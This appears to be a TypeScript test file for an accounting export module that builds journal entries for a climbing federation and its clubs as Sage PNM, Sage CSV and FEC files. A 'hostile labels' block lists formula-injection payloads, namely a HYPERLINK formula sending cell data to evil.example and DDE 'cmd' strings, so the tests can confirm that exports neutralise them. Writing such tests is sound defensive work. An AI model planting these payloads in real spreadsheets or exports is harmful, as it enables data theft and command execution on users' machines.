import { describe, expect, it } from 'vitest';
import {
  allocate,
  buildEntry,
  DEFAULT_PNM_LAYOUT,
  encodeLatin9,
  entryTotals,
  exportQuerySchema,
  FEC_HEADER,
  fecFileName,
  fecLines,
  layoutLabelWidth,
  layoutWidth,
  pnmLines,
  reversalOf,
  sageCsvLines,
  SAGE_CSV_LABEL_WIDTH,
  singleLineText,
  type FluxForEntry,
  type ThirdPartyRule,
} from './index';

const HEAD_OFFICE: ThirdPartyRule = {
  collectiveAccount: '411000',
  collectiveLabel: 'Clients',
  prefix: '411',
  fixedAccount: null,
  fixedLabel: null,
};
const CLUB: ThirdPartyRule = {
  collectiveAccount: '401000',
  collectiveLabel: 'Fournisseurs',
  prefix: null,
  fixedAccount: '401FFME',
  fixedLabel: 'FFME',
};
const FLUX: FluxForEntry = {
  id: 42,
  pieceRef: '2025-FFME-42',
  label: 'Licence adulte 2025 - Éloïse Œuvré',
  date: '2025-03-07',
  isDebit: true,
  amountCents: 12_345,
  structureCode: '069012',
  structureName: 'Club Escalade Lyon',
};
const licence = { account: '756100', accountLabel: 'Cotisations licences', section: 'LIC' };

describe('entries', () => {
  it('head office: a debit flux debits 411+code and credits revenue', () => {
    const entry = buildEntry(FLUX, 'federation', HEAD_OFFICE, 'VE', allocate(12_345, licence, []));
    expect(entry.lines.map((l) => [l.account, l.auxAccount, l.debitCents, l.creditCents])).toEqual([
      ['411000', '411069012', 12_345, 0],
      ['756100', '', 0, 12_345],
    ]);
  });

  it('club: the same flux is an expense against 401FFME; a credit flux reverses it', () => {
    const expense = { account: '628100', accountLabel: 'Cotisations', section: null };
    const debit = buildEntry(FLUX, 'membre', CLUB, 'AC', allocate(12_345, expense, []));
    expect(debit.lines.map((l) => [l.account, l.auxAccount, l.debitCents, l.creditCents])).toEqual([
      ['401000', '401FFME', 0, 12_345],
      ['628100', '', 12_345, 0],
    ]);
    const credit = buildEntry({ ...FLUX, isDebit: false }, 'membre', CLUB, 'AC', allocate(12_345, expense, []));
    expect(credit.lines.map((l) => [l.debitCents, l.creditCents])).toEqual([
      [12_345, 0],
      [0, 12_345],
    ]);
  });

  it('tarif mappings split the amount and the entry still balances to the cent', () => {
    const parts = [{ account: '756200', accountLabel: 'Assurances', section: null, amountCents: 1_001 }];
    const entry = buildEntry(FLUX, 'federation', HEAD_OFFICE, 'VE', allocate(12_345, licence, parts));
    expect(entry.lines.map((l) => l.creditCents)).toEqual([0, 1_001, 11_344]);
    const totals = entryTotals(entry);
    expect(totals.debitCents).toBe(totals.creditCents);
    // A detail in the opposite direction (negative part) lands on the other side.
    const odd = buildEntry(
      { ...FLUX, amountCents: 100 },
      'federation',
      HEAD_OFFICE,
      'VE',
      allocate(100, licence, [{ ...parts[0]!, amountCents: -50 }]),
    );
    expect(entryTotals(odd).debitCents).toBe(entryTotals(odd).creditCents);
  });
});

describe('files', () => {
  const entry = buildEntry(FLUX, 'federation', HEAD_OFFICE, 'VE', allocate(12_345, licence, []));

  it('PNM: golden lines of 138 characters, dates JJMMAA, the invoice number as Reference (R-LEDG-03)', () => {
    expect(layoutWidth(DEFAULT_PNM_LAYOUT)).toBe(138);
    const lines = pnmLines(entry).split('\r\n').slice(0, -1);
    expect(lines).toEqual([
      'VE 070325OD411000       X411069012    2025-FFME-42     Licence adulte 2025 - Éloïse Œuvré        D          123.45N     42             EUR',
      'VE 070325OD756100       G             2025-FFME-42     Licence adulte 2025 - Éloïse Œuvré        C          123.45N     42LIC          EUR',
    ]);
    for (const line of lines) expect(line).toHaveLength(138);
  });

  it('accents round-trip through ISO-8859-15, one byte per character', () => {
    const text = pnmLines(entry);
    const bytes = encodeLatin9(text);
    expect(bytes.length).toBe(text.length);
    expect(new TextDecoder('iso-8859-15').decode(bytes)).toBe(text);
    expect([...encodeLatin9('€ŠšŽžŒœŸ')]).toEqual([0xa4, 0xa6, 0xa8, 0xb4, 0xb8, 0xbc, 0xbd, 0xbe]);
    expect(new TextDecoder('iso-8859-15').decode(encodeLatin9('éàç€œ'))).toBe('éàç€œ');
    expect([...encodeLatin9('¤→')]).toEqual([0x3f, 0x3f]); // not in Latin-9
  });

  it('characters outside Latin-9 (emoji, ¤) become one ? each: lines keep 138 bytes', () => {
    expect([...encodeLatin9('a😀b¤')]).toEqual([0x61, 0x3f, 0x62, 0x3f]);
    const odd = buildEntry({ ...FLUX, label: 'Stage 😀 été\tnuit' }, 'federation', HEAD_OFFICE, 'VE', []);
    for (const line of pnmLines(odd).split('\r\n').slice(0, -1)) expect(encodeLatin9(line)).toHaveLength(138);
  });

  it('CSV: ; separated, comma decimals, four-digit years, the invoice number as reference (R-LEDG-03)', () => {
    expect(sageCsvLines(entry)).toBe(
      'VE;07/03/2025;411000;411069012;2025-FFME-42;Licence adulte 2025 - Éloïse Œuvré;123,45;;;VE-BROUILLARD-42\r\n' +
        'VE;07/03/2025;756100;;2025-FFME-42;Licence adulte 2025 - Éloïse Œuvré;;123,45;LIC;VE-BROUILLARD-42\r\n',
    );
  });

  it('CSV: labels follow the PNM layout width, 69 characters at most (R-LEDG-03)', () => {
    const long = buildEntry({ ...FLUX, label: 'y'.repeat(100) }, 'federation', HEAD_OFFICE, 'VE', []);
    expect(sageCsvLines(long, layoutLabelWidth(DEFAULT_PNM_LAYOUT)).split(';')[5]).toBe('y'.repeat(35));
    expect(sageCsvLines(long, 50).split(';')[5]).toBe('y'.repeat(50));
    expect(sageCsvLines(long, 200).split(';')[5]).toBe('y'.repeat(69));
  });

  it('FEC of a validated entry: its number, the frozen labels, the lettering on the settled line, ValidDate', () => {
    const validated = {
      ...entry,
      number: 'VE2025-000007',
      sequence: 7,
      date: '2025-03-10',
      validDate: '2025-04-01',
      lettering: { code: 'L42', date: '2025-03-20' },
      lines: entry.lines.map((l, index) => ({ ...l, lettered: index === 0 })),
    };
    const [first, second] = fecLines(validated)
      .split('\r\n')
      .map((line) => line.split('\t'));
    expect(first?.slice(2, 16)).toEqual([
      'VE2025-000007',
      '20250310',
      '411000',
      'Clients',
      '411069012',
      'Club Escalade Lyon',
      '2025-FFME-42',
      '20250307',
      'Licence adulte 2025 - Éloïse Œuvré',
      '123,45',
      '0,00',
      'L42',
      '20250320',
      '20250401',
    ]);
    expect(second?.slice(13, 16)).toEqual(['', '', '20250401']);
    expect(pnmLines(validated).slice(115, 122)).toBe('      7'); // NumeroPiece: the sequence
  });

  it('a reversal swaps every side and cites the entry it cancels', () => {
    const reversal = reversalOf({ ...entry, number: 'VE2025-000007' });
    expect(reversal.label).toBe('Extourne VE2025-000007 - Licence adulte 2025 - Éloïse Œuvré');
    expect(reversal.lines.map((l) => [l.debitCents, l.creditCents])).toEqual(
      entry.lines.map((l) => [l.creditCents, l.debitCents]),
    );
  });

  it('FEC: 18 columns in the regulatory order, AAAAMMJJ dates, comma decimals', () => {
    expect(FEC_HEADER.trimEnd().split('\t')).toEqual([
      'JournalCode',
      'JournalLib',
      'EcritureNum',
      'EcritureDate',
      'CompteNum',
      'CompteLib',
      'CompAuxNum',
      'CompAuxLib',
      'PieceRef',
      'PieceDate',
      'EcritureLib',
      'Debit',
      'Credit',
      'EcritureLet',
      'DateLet',
      'ValidDate',
      'Montantdevise',
      'Idevise',
    ]);
    const [first] = fecLines(entry).split('\r\n');
    expect(first?.split('\t')).toEqual([
      'VE',
      'Ventes',
      'VE-BROUILLARD-42',
      '20250307',
      '411000',
      'Clients',
      '411069012',
      'Club Escalade Lyon',
      '2025-FFME-42',
      '20250307',
      'Licence adulte 2025 - Éloïse Œuvré',
      '123,45',
      '0,00',
      '',
      '',
      '',
      '',
      '',
    ]);
    expect(fecFileName('775671356', '2025-08-31')).toBe('775671356FEC20250831.txt');
  });

  describe('hostile labels (R-LEDG-05): files the server writes hold one record a line and no formula', () => {
    const HOSTILE = [
      '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
      "+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      'Ligne 1\r\nLigne 2\nLigne 3\rfin',
      'Tab\tavant\u000bVT\u000cFF\u0085NEL\u2028LS\u2029PS\u0000NUL\u007fDEL fin',
    ];
    const entryWith = (label: string) => buildEntry({ ...FLUX, label }, 'federation', HEAD_OFFICE, 'VE', []);
    const records = (text: string) => text.split('\r\n').slice(0, -1);
    // eslint-disable-next-line no-control-regex -- the point is to find control characters
    const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029]/;

    it('singleLineText: control characters (C0, C1, DEL, Unicode line separators) become one space, ends trimmed', () => {
      expect(singleLineText('a\r\nb\tc\u0000d\u0085e\u2028f\u007f')).toBe('a b c d e f');
      expect(singleLineText('  \t=1+1 \r\n')).toBe('=1+1');
      expect(singleLineText('Licence adulte 2025 - Éloïse Œuvré')).toBe('Licence adulte 2025 - Éloïse Œuvré');
    });

    it('SAGE CSV: text cells starting with = + - @ tab or CR get an apostrophe, like the browser exports', () => {
      for (const label of HOSTILE) {
        const lines = records(sageCsvLines(entryWith(label)));
        expect(lines, label).toHaveLength(1);
        for (const line of lines) {
          expect(line, label).not.toMatch(CONTROL);
          const labelCell = line.split(';').slice(5, -4).join(';').replace(/^"|"$/g, '');
          expect(labelCell, label).not.toMatch(/^[=+\-@]/);
        }
      }
      expect(records(sageCsvLines(entryWith('=1+1')))[0]).toBe(
        "VE;07/03/2025;411000;411069012;2025-FFME-42;'=1+1;123,45;;;VE-BROUILLARD-42",
      );
    });

    it('SAGE CSV: amounts stay numbers; only text cells are neutralised', () => {
      const credit = buildEntry({ ...FLUX, isDebit: false }, 'federation', HEAD_OFFICE, 'VE', [
        { ...licence, amountCents: -12_345 },
      ]);
      for (const line of records(sageCsvLines(credit))) {
        const [, , , , , , debit, creditCell] = line.split(';');
        expect(`${debit}${creditCell}`).toBe('123,45');
      }
    });

    it('SAGE CSV: the label is cut to the Sage label width (35, as in PNM)', () => {
      expect(SAGE_CSV_LABEL_WIDTH).toBe(35);
      const [line] = records(sageCsvLines(entryWith('x'.repeat(200))));
      expect(line?.split(';')[5]).toBe('x'.repeat(35));
    });

    it('PNM: every record is one line of 138 characters without control characters', () => {
      for (const label of HOSTILE) {
        const lines = records(pnmLines(entryWith(label)));
        expect(lines, label).toHaveLength(1);
        for (const line of lines) {
          expect(line, label).toHaveLength(138);
          expect(line, label).not.toMatch(CONTROL);
        }
      }
    });

    it('FEC: every record is one line of 18 tab-separated fields without other control characters', () => {
      for (const label of HOSTILE) {
        const lines = records(fecLines(entryWith(label)));
        expect(lines, label).toHaveLength(1);
        for (const line of lines) {
          expect(line.split('\t'), label).toHaveLength(18);
          expect(line.replaceAll('\t', ' '), label).not.toMatch(CONTROL);
        }
      }
      const [line] = records(fecLines(entryWith('Ligne 1\r\nLigne 2')));
      expect(line?.split('\t')[10]).toBe('Ligne 1 Ligne 2');
    });
  });

  it('export query: rejects impossible dates and reversed periods', () => {
    expect(exportQuerySchema.safeParse({ from: '2025-02-30', to: '2025-03-01' }).success).toBe(false);
    expect(exportQuerySchema.safeParse({ from: '2025-03-02', to: '2025-03-01' }).success).toBe(false);
    expect(exportQuerySchema.parse({ from: '2025-03-01', to: '2025-03-01', journaux: 'VE,AC' }).journaux).toEqual([
      'VE',
      'AC',
    ]);
  });
});
